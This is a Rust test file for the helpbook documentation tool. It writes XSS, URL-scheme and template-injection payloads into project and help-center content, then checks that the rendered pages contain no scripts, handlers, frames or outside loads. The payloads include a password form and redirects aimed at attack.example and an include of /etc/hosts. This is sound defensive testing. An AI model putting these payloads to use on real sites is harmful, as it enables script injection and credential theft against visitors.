//! Hostile text of every kind, wherever a writer or a teammate can put it, in every page that helpbook makes.
//!
//! Each page is parsed as a browser would: what counts is the tree, not how the source is spelled.

use std::fs;
use std::path::{Path, PathBuf};

use scraper::{Html, Selector};
use serde_json::json;

use crate::harness::{Project, Server};
use crate::preview::{Preview, page_with};

/// Texts that would run something, load something or end the place that they are in, if they could.
const HOSTILE: [&str; 18] = [
    "<script>attack()</script>",
    "</title></textarea></style></script><script>attack()</script>",
    "<img src=x onerror=attack()>",
    "\"><img src=x onerror=\"attack()\">",
    "' onmouseover='attack()' x='",
    "\" autofocus onfocus=\"attack()",
    "<svg onload=attack()><a href=\"javascript:attack()\">x</a></svg>",
    "<math><mi href=\"javascript:attack()\">x</mi></math>",
    "<iframe srcdoc=\"<script>attack()</script>\"></iframe>",
    "<object data=\"data:text/html,attack\"></object><embed src=\"https://attack.example/a.swf\">",
    "<base href=\"https://attack.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://attack.example/\">",
    "<form action=\"https://attack.example/\"><input name=\"password\"></form>",
    "<link rel=\"stylesheet\" href=\"https://attack.example/a.css\"><style>@import url(https://attack.example/b.css)</style>",
    "<!--><script>attack()</script>-->",
    "<details open ontoggle=attack()><summary>x</summary></details>",
    "{{ attack() }}{% include \"/etc/hosts\" %}{{ frame.title|safe }}",
    "\u{202e}attack\u{202c}\u{2028}attack()\u{2029}",
    "]]><![CDATA[<script>attack()</script>",
];

/// What links and images of articles say beside these.
const ADDRESSES: [&str; 5] = [
    "javascript:attack()",
    "JaVaScRiPt:attack()",
    "data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==",
    "vbscript:attack()",
    "//attack.example/a",
];

/// A project whose every text is hostile: title, description, headings, words, cells, code, alternative text, links,
/// names of files, folders and collections.
fn project() -> Project {
    let project = Project::new(&[("helpbook.yml", "docs: docs\nstate: published\nlocales: [en, fr]\n")]);
    let quoted = |text: &str| serde_json::to_string(text).unwrap();
    for (at, text) in HOSTILE.iter().enumerate() {
        let line: String = text.chars().filter(|c| !"\u{2028}\u{2029}".contains(*c)).collect();
        let code = line.replace('`', "");
        let keys = format!("---\ntitle: {}\ndescription: {}\n---\n", quoted(&line), quoted(&line));
        let body = format!(
            "# {line}\n\n{line}\n\n> [!NOTE]\n> {line}\n\n| {line} | b |\n|---|---|\n| `{code}` | {line} |\n\n```\n{line}\n```\n\n\
             ![{line}](https://images.example/a.png \"{line}\")\n\n[{line}]({})\n\n<p>{line}</p>\n",
            ADDRESSES[at % ADDRESSES.len()]
        );
        project.write(&format!("docs/plain/a{at}.md"), &format!("{keys}{body}"));
        project.write(&format!("docs/plain/a{at}.fr.md"), &format!("{keys}{body}"));
        // What a file system takes as a name.
        let name: String = line.replace(['/', '\\', '\u{0}'], "-").chars().take(60).collect();
        project.write(&format!("docs/{name}/_index.md"), &keys);
        project.write(&format!("docs/{name}/{name}.md"), &format!("{keys}Text\n"));
    }
    project
}

/// Holds that a page, parsed, has nothing that runs, loads or sends anything but what every page has.
#[track_caller]
fn is_harmless(page: &str, of: &str) {
    let html = page.split_once("\r\n\r\n").map_or(page, |(_, body)| body);
    let document = Html::parse_document(html);
    let all = Selector::parse("*").unwrap();
    for element in document.select(&all).map(|element| element.value()) {
        let name = element.name();
        assert!(!matches!(name, "object" | "embed" | "iframe" | "base" | "frame" | "math"), "{of}: <{name}>");
        for (attribute, value) in element.attrs() {
            let value = value.trim().to_ascii_lowercase();
            assert!(!attribute.starts_with("on"), "{of}: {attribute}=\"{value}\"");
            assert!(!matches!(attribute, "srcdoc" | "formaction" | "ping" | "background"), "{of}: {attribute}");
            if matches!(attribute, "href" | "src" | "action" | "data" | "xlink:href") {
                let scheme = value.split(['/', '?', '#']).next().unwrap_or_default();
                let is_open = !scheme.contains(':')
                    || ["http:", "https:", "mailto:", "tel:"].iter().any(|open| scheme.starts_with(open));
                assert!(is_open, "{of}: {attribute}=\"{value}\"");
                let is_elsewhere = value.starts_with("http") || value.starts_with("//");
                // A link is followed by a person, and an image is where the writer has it; nothing else leaves.
                assert!(!is_elsewhere || matches!(name, "a" | "img"), "{of}: <{name} {attribute}=\"{value}\">");
            }
            assert!(attribute != "style" || !value.contains("url("), "{of}: {value}");
            assert!(
                attribute != "http-equiv" || name == "meta" && value == "refresh" && of.ends_with("index.html"),
                "{of}"
            );
        }
    }
    let scripts = Selector::parse("script").unwrap();
    for script in document.select(&scripts) {
        assert!(script.value().attr("src").is_some_and(|src| src.ends_with("assets/site.js")), "{of}");
        assert!(script.inner_html().trim().is_empty(), "{of}");
    }
    let forms = Selector::parse("form, input, textarea, button").unwrap();
    for control in document.select(&forms).map(|control| control.value()) {
        let is_search = control.attr("class") == Some("search") || control.attr("id") == Some("search");
        assert!(is_search, "{of}: <{}>", control.name());
    }
}

/// Every file below a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut all = Vec::new();
    for path in fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()) {
        if path.is_dir() { all.extend(files(&path)) } else { all.push(path) }
    }
    all
}

#[test]
fn nothing_of_a_writer_runs_in_the_preview_or_its_files() {
    let project = project();
    let preview = Preview::start(&project, &[]);
    project.run(&["preview", "--out", "site"]).exits(0);
    let pages = files(&project.path().join("site"));
    let (mut seen, mut texts) = (0, 0);
    for file in &pages {
        let shown = file.strip_prefix(project.path().join("site")).unwrap().display().to_string();
        let text = fs::read_to_string(file).unwrap_or_default();
        if shown.ends_with(".html") {
            is_harmless(&text, &shown);
            seen += 1;
            if shown.contains("/articles/plain/") {
                assert!(text.contains("attack"), "{shown} shows what was written");
            }
        } else if shown.ends_with("texts.js") {
            // The texts are data: nothing in them ends the script or the string that they are in.
            assert!(
                text.starts_with("helpbookTexts([") && !text.contains("</") && !text.contains('\u{2028}'),
                "{shown}"
            );
            texts += 1;
        }
    }
    assert!(seen > 60 && texts == 2, "{seen} {texts}");
    for at in 0..HOSTILE.len() {
        let path = format!("/en/articles/plain/a{at}.html");
        is_harmless(&preview.get(&path), &path);
    }
    for text in HOSTILE {
        let query: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        is_harmless(&preview.get(&format!("/en/search.html?q={query}")), "search");
        is_harmless(&preview.get(&format!("/{query}")), "a page that is not there");
    }
}

#[test]
fn nothing_of_a_teammate_runs_in_a_comparison_or_on_the_site() {
    let server = Server::start();
    let project = Project::new(&[]).on(&server);
    for at in 0..HOSTILE.len() {
        project.write(&format!("docs/guide/a{at}.md"), &format!("# Article {at}\n\nSome words.\n"));
    }
    project.run(&["apply", "--publish", "--yes"]).exits(0);
    for (at, text) in HOSTILE.iter().enumerate() {
        let body = format!(
            "<h1>{text}</h1><p>{text} <a href=\"{}\">x</a></p><pre><code>{text}</code></pre>",
            ADDRESSES[at % ADDRESSES.len()]
        );
        let id = project.id(&format!("docs/guide/a{at}.md"));
        let edited = server.edit(id, &json!({ "title": text, "description": text, "body": body, "publish": true }));
        if edited["type"] == "error.list" {
            // Intercom refuses an image that nobody has.
            server.edit(id, &json!({ "title": text, "description": text, "publish": true }));
        }
        project.edit(&format!("docs/guide/a{at}.md"), "Some words.", "Other words.");
    }
    server.post("/help_center/collections", &json!({ "name": HOSTILE[1], "description": HOSTILE[3] }));
    let preview = Preview::start(&project, &[]);
    page_with(&preview, "/en/index.html", "conflict");
    for at in 0..HOSTILE.len() {
        for folder in ["before", "changes"] {
            let path = format!("/en/{folder}/guide/a{at}.html");
            let page = preview.get(&path);
            assert!(page.starts_with("HTTP/1.1 200") && page.contains("attack"), "{path}: {page}");
            is_harmless(&page, &path);
        }
    }
    is_harmless(&preview.get("/en/changes.html"), "changes");
    for (id, article) in server.articles() {
        let address = article["url"].as_str().unwrap().replace("http://help.localhost", &server.url());
        let (runtime, url) = (tokio::runtime::Runtime::new().unwrap(), address.clone());
        let page = runtime.block_on(async { reqwest::get(url).await.unwrap().text().await.unwrap() });
        is_harmless(&page, &format!("article {id} of the site"));
    }
}
